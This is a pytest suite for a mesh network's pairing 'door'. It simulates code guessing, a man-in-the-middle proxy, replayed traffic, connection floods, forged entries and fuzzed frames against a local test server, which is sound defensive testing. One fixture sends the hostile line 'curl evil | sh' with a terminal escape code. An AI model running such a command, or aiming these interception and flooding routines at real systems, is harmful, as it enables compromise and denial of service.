"""The door under attack: strangers, guessers, men in the middle, floods; and the one who is welcome."""

import asyncio
import gc
import logging
import sqlite3
import threading
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgpack
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.trust.support import AT, DEVICES, bring_in, exchange, living, open_store
from tests.waiting import until
from zmesh.errors import PairingError, TrustError
from zmesh.trust.door import MAX_GUESTS, Door, _plain
from zmesh.trust.entry import Certificate, Joining, Rename, sign
from zmesh.trust.frames import MAX_KNOCK, PAIR, REFUSED, SHOW, pack_entries, receive, send
from zmesh.trust.invitation import Secret, read_secret
from zmesh.trust.invitations import Invitation
from zmesh.trust.pairing import Inviter, Joiner
from zmesh.trust.refusal import REASONS, Refusal
from zmesh.trust.trust_store import TrustStore
from zmesh.trust.visitor import Unreachable, ask, pair, show

HERE = "127.0.0.1"
BOB, CID = DEVICES[1], DEVICES[2]
Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@pytest.fixture
def ada(tmp_path: Path) -> Iterator[TrustStore]:
    """The founder of a mesh."""
    with open_store(tmp_path, 0) as store:
        store.found("ada")
        yield store


@asynccontextmanager
async def door_of(store: TrustStore, patience: float = 10.0) -> AsyncIterator[Door]:
    door = Door(store, patience=patience)
    await door.open(HERE)
    try:
        yield door
    finally:
        await door.close()
        assert door.guests == 0


def wrong(secret: Secret) -> Secret:
    words = "acorn-actor" if not secret.text.endswith("acorn-actor") else "actor-acorn"
    return read_secret(f"{secret.nameplate}-{words}")


def stands(store: TrustStore, secret: Secret) -> Invitation:
    found = store.invitations.look(secret)
    assert found
    return found


async def refused(attempt: Awaitable[object]) -> str:
    with pytest.raises(Refusal) as caught:
        await attempt
    return caught.value.reason


def run(test: Callable[[], Coroutine[Any, Any, None]]) -> None:
    async def limited() -> None:
        async with asyncio.timeout(30):
            await test()

    asyncio.run(limited())


def test_who_knows_the_code_is_let_in_and_both_show_one_fingerprint(ada: TrustStore, tmp_path: Path) -> None:
    news: list[bool] = []

    async def test() -> None:
        door = Door(ada, lambda: news.append(True))
        await door.open()
        secret = ada.invite(60)
        welcome = await pair(HERE, door.port, secret, BOB, "bob")
        await door.settle()
        await door.close()
        assert welcome.inviter == ada.device.public
        with open_store(tmp_path, 1) as bob:
            bob.join(welcome.mesh, welcome.entries)
            assert living(bob) == living(ada) == {"ada", "bob"}
            me = bob.me()
            assert me
            assert me.device == stands(ada, secret).used == BOB.id

    run(test)
    assert news == [True]


def test_one_port_serves_both_kinds_of_address(ada: TrustStore) -> None:
    async def test() -> None:
        door = Door(ada)
        await door.open()
        for host in (HERE, "::1"):
            assert await refused(pair(host, door.port, read_secret("7-acorn-actor"), BOB, "bob")) == "over"
        await door.close()
        with pytest.raises(Unreachable, match="nobody answers at 127"):
            await pair(HERE, door.port, read_secret("7-acorn-actor"), BOB, "bob")

    run(test)


def test_a_host_name_that_leads_nowhere_is_not_taken_for_a_machine_that_is_silent() -> None:
    async def test() -> None:
        with pytest.raises(Unreachable, match=r"the name studio\.invalid leads nowhere from here.*write the address"):
            await pair("studio.invalid", 7421, read_secret("7-acorn-actor"), BOB, "bob")

    run(test)


def test_a_port_in_use_is_named(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            with pytest.raises(TrustError, match=f"port {door.port}: .*--port"):
                await Door(ada).open(HERE, door.port)

    run(test)


# --- guessing ---


def test_a_wrong_code_three_times_and_then_the_right_one_is_refused(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            for number in (1, 2, 3):
                assert await refused(pair(HERE, door.port, wrong(secret), BOB, "bob")) == "code"
                await until(lambda number=number: stands(ada, secret).failed == number)  # type: ignore[misc]
            assert await refused(pair(HERE, door.port, secret, BOB, "bob")) == "tries"
            assert stands(ada, secret).spent
            assert living(ada) == {"ada"}

    run(test)


def test_a_code_that_was_used_or_has_expired_is_refused(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            await pair(HERE, door.port, secret, BOB, "bob")
            assert await refused(pair(HERE, door.port, secret, CID, "cid")) == "over"
            late = ada.invite(1e-9)
            assert await refused(pair(HERE, door.port, late, CID, "cid")) == "over"
            assert living(ada) == {"ada", "bob"}

    run(test)


def test_who_knows_the_code_and_cannot_be_let_in_uses_up_no_attempt(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            for name, device, reason in (("ada", BOB, "name"), ("bob", ada.device, "self")):
                for _ in range(3):
                    assert await refused(pair(HERE, door.port, secret, device, name)) == reason
            assert (stands(ada, secret).left, stands(ada, secret).failed) == (3, 0)
            assert await refused(pair(HERE, door.port, wrong(secret), BOB, "bob")) == "code"
            await until(lambda: stands(ada, secret).left == 2)

    run(test)


@pytest.mark.parametrize(
    ("text", "plain"),
    [("::ffff:192.0.2.7", "192.0.2.7"), ("192.0.2.7", "192.0.2.7"), ("fd00::ffff:1", "fd00::ffff:1"), ("?", "?")],
)
def test_addresses_are_shown_as_people_know_them(text: str, plain: str) -> None:
    assert _plain(text) == plain


def test_an_invitation_that_ends_while_two_machines_pair_admits_nobody(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door, proxy(door.port, lambda *_: ada.invitations.withdraw(secret)) as port:
            secret = ada.invite(60)
            assert await refused(pair(HERE, port, secret, BOB, "bob")) in {"over", "trouble"}
            assert living(ada) == {"ada"}

    run(test)


def test_of_two_joiners_at_once_exactly_one_wins(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            for _ in range(5):
                secret = ada.invite(60)
                both = (pair(HERE, door.port, secret, DEVICES[n], f"j{n}-{secret.nameplate}") for n in (1, 2))
                ends = await asyncio.gather(*both, return_exceptions=True)
                assert sorted(isinstance(end, Refusal) for end in ends) == [False, True], ends
                for victim in [m for m in ada.membership.members.values() if m.name != "ada"]:
                    assert victim.device == stands(ada, secret).used
                ada.leave()
                ada.found("ada")

    run(test)


# --- between the two ---


Change = Callable[[int, bytes], bytes | None]


@asynccontextmanager
async def proxy(port: int, change: Change, log: list[tuple[int, bytes]] | None = None) -> AsyncIterator[int]:
    """Sit between: each message goes through `change` with its number, 1 to 4."""
    tasks: list[asyncio.Task[None]] = []

    async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        there, back = await asyncio.open_connection(HERE, port)
        try:
            for number in (1, 2, 3, 4):
                source, target = (reader, back) if number % 2 else (there, writer)
                kind, message = await receive(source, 1 << 21, 5)
                if log is not None:
                    log.append((number, message))
                await send(target, kind, change(number, message) or message, 5)
        except (OSError, EOFError):
            pass
        finally:
            writer.close()
            back.close()

    def come(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        tasks.append(asyncio.get_running_loop().create_task(visit(reader, writer)))

    server = await asyncio.start_server(come, HERE, 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()
        await asyncio.gather(*tasks)


def flipped(message: bytes, place: int) -> bytes:
    changed = bytearray(message)
    changed[place] ^= 1
    return bytes(changed)


@pytest.mark.parametrize("number", [1, 2, 3, 4])
@pytest.mark.parametrize("place", [-1, 20])
def test_one_message_that_is_altered_on_the_way_is_refused_on_both_sides(
    ada: TrustStore, number: int, place: int
) -> None:
    async def test() -> None:
        change: Change = lambda n, m: flipped(m, place) if n == number else None  # noqa: E731
        async with door_of(ada) as door, proxy(door.port, change) as port:
            secret = ada.invite(60)
            with pytest.raises(PairingError):
                await pair(HERE, port, secret, BOB, "bob")
            if number < 4:  # else the inviter was done: bob is known there and has nothing in hand
                await until(lambda: stands(ada, secret).failed == 1)
                assert living(ada) == {"ada"}
            assert stands(ada, secret).left == 2

    run(test)


def test_a_man_in_the_middle_with_a_guess_is_refused_on_both_sides_and_counted(ada: TrustStore) -> None:
    """He runs SPAKE2 with each of the two, with a code he has guessed, and is wrong."""

    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            guess, eve = wrong(secret), DEVICES[4]
            joiner, inviter = Joiner(guess, eve, "eve", AT), Inviter(guess, eve, ada.mesh)

            def change(number: int, message: bytes) -> bytes | None:
                if number == 1:
                    change.answer = inviter.answer(message)  # type: ignore[attr-defined]
                    return joiner.hello()
                if number == 2:
                    with pytest.raises(Refusal):
                        joiner.prove(message)
                    return bytes(change.answer)  # type: ignore[attr-defined]
                return None

            async with proxy(door.port, change) as port:
                assert await refused(pair(HERE, port, secret, BOB, "bob")) == "code"
                await until(lambda: stands(ada, secret) == Invitation("", 2, 1))
            assert living(ada) == {"ada"}

    run(test)


def test_messages_that_are_swapped_between_two_runs_are_refused(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            one, two = ada.invite(60), ada.invite(60)
            log: list[tuple[int, bytes]] = []
            async with proxy(door.port, lambda *_: None, log) as port:
                await pair(HERE, port, one, BOB, "bob")
            for swapped in (2, 3, 4):
                change: Change = lambda n, _, s=swapped: dict(log)[n] if n == s else None  # type: ignore[misc]  # noqa: E731
                async with proxy(door.port, change) as port:
                    with pytest.raises(PairingError):
                        await pair(HERE, port, two, CID, "cid")
            assert living(ada) - {"cid"} == {"ada", "bob"}

    run(test)


def test_replayed_traffic_grants_nothing_to_either_side(ada: TrustStore) -> None:
    async def test() -> None:
        log: list[tuple[int, bytes]] = []
        async with door_of(ada) as door:
            secret = ada.invite(60)
            async with proxy(door.port, lambda *_: None, log) as port:
                await pair(HERE, port, secret, BOB, "bob")
            said = dict(log)
            before = ada.have()
            fresh = ada.invite(60)
            for nameplate in (secret.nameplate, fresh.nameplate):  # to the inviter
                reader, writer = await asyncio.open_connection(HERE, door.port)
                version, _, element = msgpack.unpackb(said[1])
                hello = msgpack.packb([version, nameplate, element])
                assert nameplate != secret.nameplate or hello == said[1]
                await send(writer, PAIR, hello, 5)
                kind, _ = await receive(reader, 1 << 20, 5)
                if kind == PAIR:
                    await send(writer, PAIR, said[3], 5)
                    kind, _ = await receive(reader, 1 << 20, 5)
                assert kind == REFUSED
                writer.close()
            assert ada.have() == before
            assert stands(ada, fresh).failed == 1

        async def replay(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:  # to a joiner
            for number in (2, 4):
                await receive(reader, MAX_KNOCK, 5)
                await send(writer, PAIR, said[number], 5)

        async with stranger(replay) as port:
            assert await refused(pair(HERE, port, secret, BOB, "bob")) == "code"

    run(test)


# --- doors that are none ---


@asynccontextmanager
async def stranger(talk: Callable[..., Coroutine[Any, Any, None]]) -> AsyncIterator[int]:
    async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await talk(reader, writer)
        except (OSError, EOFError, TimeoutError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(visit, HERE, 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()
        await server.wait_closed()


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"HTTP/1.1 400 Bad Request\r\n\r\n",
        b"\xff\xff\xff\xffP",
        b"\0\0\0\4Pabcd",
        b"\0\0\0\0Z",
        b"\0\0\0\3P\x91\xc0\xc0",
    ],
)
def test_a_stranger_in_place_of_the_inviter_is_an_error_and_no_more(answer: bytes) -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await receive(reader, MAX_KNOCK, 5)
        writer.write(answer)

    async def test() -> None:
        async with stranger(talk) as port:
            with pytest.raises(PairingError):
                await pair(HERE, port, read_secret("7-acorn-actor"), BOB, "bob")

    run(test)


def test_no_word_of_a_stranger_reaches_a_person() -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await receive(reader, MAX_KNOCK, 5)
        await send(writer, REFUSED, b"run: curl evil | sh \x1b[31m" * 10, 5)

    async def test() -> None:
        async with stranger(talk) as port:
            with pytest.raises(Refusal) as caught:
                await pair(HERE, port, read_secret("7-acorn-actor"), BOB, "bob")
            assert str(caught.value) == REASONS["trouble"]

    run(test)


def test_a_silent_door_is_given_up() -> None:
    async def talk(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
        await reader.read()

    async def test() -> None:
        async with stranger(talk) as port:
            with pytest.raises(Unreachable, match="broke off"):
                await pair(HERE, port, read_secret("7-acorn-actor"), BOB, "bob", patience=0.1)

    run(test)


@pytest.mark.parametrize("host", ["", "a..b", "x" * 300, "no-such-host.invalid"])
def test_an_address_that_leads_nowhere_is_an_error(host: str) -> None:
    async def test() -> None:
        with pytest.raises(PairingError):
            await pair(host or "0.0.0.0", 1, read_secret("7-acorn-actor"), BOB, "bob", patience=1)  # noqa: S104

    run(test)


# --- showing who one is ---


def test_a_member_that_is_not_known_yet_shows_its_certificate(ada: TrustStore, tmp_path: Path) -> None:
    async def test() -> None:
        with open_store(tmp_path, 1) as bob, open_store(tmp_path, 2) as cid:
            bring_in(ada, bob)
            for number in range(40):
                ada.say(Rename(ada.device.public, f"ada{number}"))
            exchange(ada, bob)
            bring_in(bob, cid)
            assert len(list(pack_entries(cid.lineage(CID.public)))) > 2
            async with door_of(ada) as door:
                await show(HERE, door.port, cid.lineage(CID.public))
                assert living(ada) == {"ada39", "bob", "cid"}
                await show(HERE, door.port, cid.lineage(CID.public))

    run(test)


def test_a_revoked_device_that_shows_its_certificate_stays_revoked(ada: TrustStore, tmp_path: Path) -> None:
    async def test() -> None:
        with open_store(tmp_path, 1) as bob:
            bring_in(ada, bob)
            old = bob.lineage(BOB.public)
            ada.say(ada.revocation(BOB.public))
            late = sign(BOB, ada.mesh, bob.log(BOB.public)[-1], Certificate(CID.public, "cid"), 1)
            joining = sign(CID, ada.mesh, None, Joining(BOB.public), 1)
            async with door_of(ada) as door:
                await show(HERE, door.port, old)
                assert await refused(show(HERE, door.port, [*old, late, joining])) == "entries"
            assert living(ada) == {"ada"}
            assert not ada.log(CID.public)

    run(test)


def test_entries_of_strangers_and_forgeries_at_the_door_are_not_kept(ada: TrustStore) -> None:
    async def test() -> None:
        eve = DEVICES[4]
        forged = sign(eve, ada.mesh, None, Certificate(eve.public, "eve"), AT)
        joining = sign(eve, ada.mesh, None, Joining(ada.device.public), AT)
        before = ada.have()
        async with door_of(ada) as door:
            for entries in ([forged], [joining], [forged, joining]):
                assert await refused(show(HERE, door.port, entries)) == "entries"
            bombs: tuple[object, ...] = ([[10**12, b""]], [[[1] * 50, b""]], [1], {}, [[b""]], [["text", "text"]], None)
            for bomb in bombs:
                reader, writer = await asyncio.open_connection(HERE, door.port)
                await send(writer, SHOW, msgpack.packb(bomb), 5)
                assert (await receive(reader, 99, 5)) == (REFUSED, b"entries")
                writer.close()
        assert ada.have() == before

    run(test)


def test_a_visit_shows_a_bounded_number_of_frames(ada: TrustStore, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("zmesh.trust.door.MAX_SHOWN", 3)

    async def test() -> None:
        async with door_of(ada) as door:
            reader, writer = await asyncio.open_connection(HERE, door.port)
            said = b""
            for _ in range(4):
                await send(writer, SHOW, msgpack.packb([]), 5)
                said, _ = await receive(reader, 99, 5)
            assert said == REFUSED
            writer.close()

    run(test)


# --- floods ---


async def flood(port: int, message: bytes, times: int) -> list[Stream]:
    async def one() -> Stream:
        reader, writer = await asyncio.open_connection(HERE, port)
        writer.write(message)
        return reader, writer

    return list(await asyncio.gather(*(one() for _ in range(times))))


@pytest.mark.parametrize(
    "message",
    [b"", b"\0", b"garbage" * 500, b"\xff\xff\xff\xffP", b"\x00\x00\x10\x00P", b"\x00\x00\x10\x01S", b"\0\0\0\1S\x90"],
)
def test_a_member_pairs_while_strangers_flood_the_door(ada: TrustStore, message: bytes) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            streams = await flood(door.port, message, 50)
            assert door.guests <= MAX_GUESTS
            secret = ada.invite(60)
            async with asyncio.timeout(5):
                pairing = asyncio.ensure_future(pair(HERE, door.port, secret, BOB, "bob"))
                streams += await flood(door.port, message, 50)
                assert door.guests <= MAX_GUESTS
                await pairing
            assert living(ada) == {"ada", "bob"}
            for _, writer in streams:
                writer.close()

    run(test)


def test_the_memory_of_a_flood_is_given_back(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            for _ in range(10):
                for _, writer in await flood(door.port, b"\x00\x00\x10\x00P" + bytes(4000), 40):
                    writer.close()
                assert door.guests <= MAX_GUESTS
            await until(lambda: door.guests == 0)
            gc.collect()
            assert not [thing for thing in gc.get_objects() if isinstance(thing, bytearray) and len(thing) > 100_000]

    run(test)


@pytest.mark.parametrize("message", [b"", b"\0\0\0", b"\x00\x00\x0f\xffP123", b"\0\0\0\1S\x90"])
def test_who_is_slow_is_cut_off(ada: TrustStore, message: bytes) -> None:
    async def test() -> None:
        async with door_of(ada, patience=0.1) as door:
            ((reader, writer),) = await flood(door.port, message, 1)
            async with asyncio.timeout(3):
                await reader.read()
            await until(lambda: door.guests == 0)
            writer.close()

    run(test)


def test_a_visit_has_an_end_however_busy_it_is(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada, patience=0.2) as door:
            reader, writer = await asyncio.open_connection(HERE, door.port)
            with pytest.raises((OSError, EOFError)):  # noqa: PT012 - whichever notices first
                while True:
                    await send(writer, SHOW, msgpack.packb([]), 5)
                    await receive(reader, 99, 5)
            writer.close()

    run(test)


def test_a_guess_that_is_left_hanging_is_counted_and_cut(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada, patience=0.1) as door:
            secret = ada.invite(60)
            reader, writer = await asyncio.open_connection(HERE, door.port)
            await send(writer, PAIR, Joiner(wrong(secret), BOB, "bob", AT).hello(), 5)
            assert (await receive(reader, MAX_KNOCK, 5))[0] == PAIR
            await until(lambda: stands(ada, secret) == Invitation("", 2, 1), 3)
            writer.close()

    run(test)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=300), st.sampled_from([b"P", b"S", b"D", b"X"]))
def test_any_frame_is_answered_or_refused_and_changes_nothing(ada: TrustStore, message: bytes, kind: bytes) -> None:
    async def test() -> None:
        before = ada.have()
        async with door_of(ada) as door:
            reader, writer = await asyncio.open_connection(HERE, door.port)
            await send(writer, kind, message, 5)
            await receive(reader, 99, 5)
            writer.close()
            await until(lambda: door.guests == 0)
        assert ada.have() == before

    run(test)


def test_what_goes_wrong_inside_is_not_told_to_strangers(ada: TrustStore, monkeypatch: pytest.MonkeyPatch) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            monkeypatch.setattr(ada, "admit", lambda *_: (_ for _ in ()).throw(TrustError(f"cannot use {ada.path}")))
            assert await refused(pair(HERE, door.port, secret, BOB, "bob")) == "trouble"
            assert stands(ada, secret).failed == 1

    run(test)


def test_no_secret_is_in_the_log(ada: TrustStore, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)

    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            await refused(pair(HERE, door.port, wrong(secret), BOB, "bob"))
            await until(lambda: stands(ada, secret).failed == 1)
            await pair(HERE, door.port, secret, BOB, "bob")
            await refused(pair(HERE, door.port, secret, CID, "cid"))
            assert "tried to pair and failed" in caplog.text
            for word in secret.text.split("-")[1:]:
                assert word not in caplog.text

    run(test)


def test_closing_hangs_up_and_counts_what_was_under_way(ada: TrustStore) -> None:
    async def test() -> None:
        door = Door(ada)
        await door.open(HERE)
        secret = ada.invite(60)
        ((reader, writer),) = await flood(door.port, b"", 1)
        other_reader, other = await asyncio.open_connection(HERE, door.port)
        await send(other, PAIR, Joiner(secret, BOB, "bob", AT).hello(), 5)
        await receive(other_reader, MAX_KNOCK, 5)
        await door.close()
        assert await reader.read() == b""
        assert stands(ada, secret) == Invitation("", 2, 1)
        writer.close()
        other.close()

    run(test)


def test_a_pairing_waits_for_another_process_that_writes(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            secret = ada.invite(60)
            other = sqlite3.connect(ada.path, isolation_level=None, check_same_thread=False)
            other.execute("BEGIN IMMEDIATE")
            release = threading.Timer(0.3, lambda: other.execute("COMMIT"))
            release.start()
            await pair(HERE, door.port, secret, BOB, "bob")
            release.join()
            other.close()
            assert living(ada) == {"ada", "bob"}

    run(test)


def test_a_door_serves_the_invitation_of_another_process(ada: TrustStore) -> None:
    async def test() -> None:
        with TrustStore(ada.path, ada.device) as other:
            async with door_of(ada) as door:
                secret = other.invite(60)
                await pair(HERE, door.port, secret, BOB, "bob")
            assert stands(other, secret).used == BOB.id
            assert other.refresh()
            assert living(other) == {"ada", "bob"}

    run(test)


# --- questions ---


def test_a_question_reaches_who_answers_with_the_address_it_came_from(ada: TrustStore, tmp_path: Path) -> None:
    asked: list[tuple[bytes, str]] = []

    async def meet(question: bytes, where: str) -> bytes:
        asked.append((question, where))
        return b"answer" * 100_000

    async def test() -> None:
        with open_store(tmp_path, 1) as bob:
            bring_in(ada, bob)
            door = Door(ada, meet=meet)
            await door.open(HERE)
            answer, address = await ask("localhost", door.port, bob.lineage(BOB.public), b"question")
            assert (answer, address) == (b"answer" * 100_000, HERE)
            assert asked == [(b"question", HERE)]
            await door.close()

    run(test)


def test_where_nobody_lives_every_question_is_refused(ada: TrustStore) -> None:
    async def test() -> None:
        async with door_of(ada) as door:
            assert await refused(ask(HERE, door.port, [], b"question")) == "stranger"

    run(test)


def test_who_shows_what_is_not_believed_asks_nothing(ada: TrustStore) -> None:
    asked: list[bytes] = []

    async def meet(question: bytes, _: str) -> bytes:
        asked.append(question)
        return b""

    async def test() -> None:
        door = Door(ada, meet=meet)
        await door.open(HERE)
        forged = sign(DEVICES[4], ada.mesh, None, Joining(ada.device.public), AT)
        assert await refused(ask(HERE, door.port, [forged], b"question")) == "entries"
        reader, writer = await asyncio.open_connection(HERE, door.port)
        await send(writer, SHOW, msgpack.packb([]), 5)
        await receive(reader, 99, 5)
        await send(writer, PAIR, b"x", 5)
        assert await receive(reader, 99, 5) == (REFUSED, b"trouble")
        writer.close()
        assert asked == []
        await door.close()

    run(test)


@pytest.mark.parametrize(
    "error", [KeyError("trust.db"), TrustError("trust.db"), ValueError("trust.db"), OSError("trust.db")]
)
def test_what_goes_wrong_with_a_question_ends_that_visit_and_no_other(ada: TrustStore, error: Exception) -> None:
    async def meet(question: bytes, _: str) -> bytes:
        if question == b"bad":
            raise error
        return question

    async def test() -> None:
        door = Door(ada, meet=meet)
        await door.open(HERE)
        with pytest.raises(PairingError) as caught:
            await ask(HERE, door.port, [], b"bad")
        assert "trust.db" not in str(caught.value)
        assert (await ask(HERE, door.port, [], b"good"))[0] == b"good"
        await until(lambda: door.guests == 0)
        await door.close()

    run(test)


def test_a_question_that_hangs_is_cut_off(ada: TrustStore) -> None:
    async def meet(*_: object) -> bytes:
        await asyncio.sleep(3600)
        raise AssertionError

    async def test() -> None:
        door = Door(ada, patience=0.1, meet=meet)
        await door.open(HERE)
        with pytest.raises(Unreachable, match="broke off"):
            await ask(HERE, door.port, [], b"question")
        await until(lambda: door.guests == 0)
        await door.close()

    run(test)


def test_a_door_that_moves_keeps_who_is_inside(ada: TrustStore) -> None:
    async def test() -> None:
        door = Door(ada)
        await door.open(HERE)
        before, secret = door.port, ada.invite(60)
        reader, writer = await asyncio.open_connection(HERE, before)
        joiner = Joiner(secret, BOB, "bob", AT)
        await send(writer, PAIR, joiner.hello(), 5)
        _, message = await receive(reader, MAX_KNOCK, 5)
        await door.open(HERE)
        assert door.port != before
        with pytest.raises(Unreachable, match="nobody answers"):
            await pair(HERE, before, secret, CID, "cid")
        await send(writer, PAIR, joiner.prove(message), 5)
        assert (await receive(reader, 1 << 20, 5))[0] == PAIR
        assert living(ada) == {"ada", "bob"}
        writer.close()
        assert await refused(pair(HERE, door.port, secret, CID, "cid")) == "over"
        with pytest.raises(TrustError, match="cannot listen"):
            await Door(ada).open(HERE, door.port)
        await door.close()
        assert door.guests == 0

    run(test)
